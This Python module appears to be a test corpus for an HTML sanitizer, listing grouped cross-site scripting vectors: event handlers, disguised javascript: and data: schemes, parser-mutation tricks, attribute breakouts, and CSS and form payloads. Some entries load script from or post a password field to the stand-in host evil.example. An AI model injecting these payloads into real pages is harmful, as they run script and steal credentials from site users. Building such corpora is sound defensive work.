"""What has run script, fetched or dressed up as a page in some browser or cleaner, one way a line.

Collected from the known families: events, schemes and their disguises, containers, foreign content, mutations
(markup that changes its meaning when it is parsed again), styles, forms, and ways out of an attribute or a title.
"""

EVENTS = [
    f"<{tag} {event}=alert(1)>x</{tag.split()[0]}>"
    for tag, event in (
        ("img src=x", "onerror"), ("img src=x", "onload"), ("body", "onload"), ("body", "onpageshow"),
        ("svg", "onload"), ("video", "onloadstart"), ("audio src=x", "onerror"), ("details open", "ontoggle"),
        ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
        ("marquee", "onstart"), ("div", "onmouseover"), ("a href=#", "onclick"), ("b", "onpointerenter"),
        ("p", "oncopy"), ("form", "onsubmit"), ("button", "onclick"), ("keygen autofocus", "onfocus"),
        ("object data=x", "onerror"), ("iframe src=x", "onload"), ("div contenteditable", "onblur"),
        ("x contenteditable", "oninput"), ("video><source", "onerror"), ("div style=animation:x", "onanimationstart"),
        ("div popover", "onbeforetoggle"), ("summary", "onclick"), ("time", "onauxclick"), ("ol", "onwheel"),
        ("blockquote", "onscrollend"), ("table", "ondrag"), ("h1", "onfocusin"),
    )
]  # fmt: skip
SCHEMES = [
    f'<a href="{href}">x</a>'
    for href in (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)",
        "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)",
        "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "\x01javascript:alert(1)",
        "&#1;javascript:alert(1)", "javascript:/*--></title></style></script>*/alert(1)", "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "blob:http://x/1", "about:blank",
        "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "jar:javascript:alert(1)!/",
        "livescript:alert(1)", "mocha:alert(1)", "javascript://evil.example/%0aalert(1)", "ftp://evil.example/",
        "ws://evil.example/", "intent://x#Intent;scheme=javascript;end", "\u00a0javascript:alert(1)",
        "\u2028javascript:alert(1)", "javascript\u200b:alert(1)",
    )
]  # fmt: skip
SCRIPTS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>", "<script>alert(1)", "<script\n>alert(1)</script\n>",
    "<script type=module>import 'http://evil.example/x.js'</script>", "<<script>alert(1)//<</script>",
    "<script src=data:,alert(1)></script>", "</script><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><script>alert(1)</script>\"></noscript>",
    "<noembed><script>alert(1)</script></noembed>", "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>", "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->", "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;", "<%<script>alert(1)</script>%>",
    "\x00<scr\x00ipt>alert(1)</script>", "<isindex type=image src=1 onerror=alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
]  # fmt: skip
CONTAINERS = [
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>", "<object type=text/x-scriptlet data=http://evil.example/></object>",
    "<embed src=http://evil.example/x.swf>", "<embed src=javascript:alert(1)>", "<applet code=x></applet>",
    "<base href=http://evil.example/>", "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<meta http-equiv=refresh content='0;javascript:alert(1)'>", "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=import href=http://evil.example/>", "<link rel=prefetch href=http://evil.example/>",
    "<portal src=http://evil.example/></portal>", "<dialog open>Your password?</dialog>",
    "<video src=http://evil.example/v poster=http://evil.example/p></video>", "<audio src=http://evil.example/a autoplay></audio>",
    "<picture><source srcset=http://evil.example/s><img src=http://evil.example/i></picture>",
    "<img src=http://evil.example/pixel.gif>", "<img srcset='http://evil.example/s 1x'>", "<img src='x' lowsrc=http://evil.example/l>",
    "<input type=image src=http://evil.example/i>", "<table background=http://evil.example/b><tr><td>x</table>",
    "<body background=http://evil.example/b>", "<a href=# ping=http://evil.example/ping>x</a>",
]  # fmt: skip
FOREIGN = [
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>", "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>#x></use></svg>", "<svg><image href=http://evil.example/i /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>", "<svg/onload=alert(1)//",
    "<math href=javascript:alert(1)>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<math><mi><table><mglyph><nolink><style><img src onerror=alert(1)></style>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>", "<select><template><img src=x onerror=alert(1)></template></select>",
    "<p><style><!--</style><img src=x onerror=alert(1)>--></style>", "<table><tr><td><svg><desc><td><script>alert(1)</script>",
]  # fmt: skip
STYLES = [
    "<style>@import 'http://evil.example/x.css';</style>", "<style>body{background:url(http://evil.example/b)}</style>",
    "<p style='background:url(http://evil.example/b)'>x</p>", "<p style='width:expression(alert(1))'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>x</p>", "<div style=-moz-binding:url(http://evil.example/x.xml#x)>x</div>",
    "<font style='behavior:url(http://evil.example/x.htc)'>x</font>", "<p class=comment id=main>x</p>",
]  # fmt: skip
FORMS = [
    "<form action=http://evil.example/><input name=q><button>Go</button></form>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<input type=submit formaction=http://evil.example/>",
    "</form><form action=http://evil.example/ id=seek><input name=password type=password>",
]  # fmt: skip
WAYS_OUT = [
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=alert(1) x=\"", "' onfocus=alert(1) autofocus='",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</bdi></a></h1></main><script>alert(1)</script>",
    "--><script>alert(1)</script>", "{{ ''.__class__ }}{% for x in y %}", "<img src=\"x\" alt=\"><script>alert(1)</script>\">",
    "<img alt=\"<img src=http://evil.example/i onerror=alert(1)>\" src=\"y\">", "<a title=\"<img src=http://evil.example/i>\" href=\"http://a.example/\">x</a>",
    "<img src=\"http://evil.example/?a='b&quot; onerror=alert(1) x=&quot;\">", "\u202e<script>alert(1)</script>", "<a href=\"http://a.example/&quot; onclick=alert(1) x=\">x</a>",
]  # fmt: skip
VECTORS = [*EVENTS, *SCHEMES, *SCRIPTS, *CONTAINERS, *FOREIGN, *STYLES, *FORMS, *WAYS_OUT]
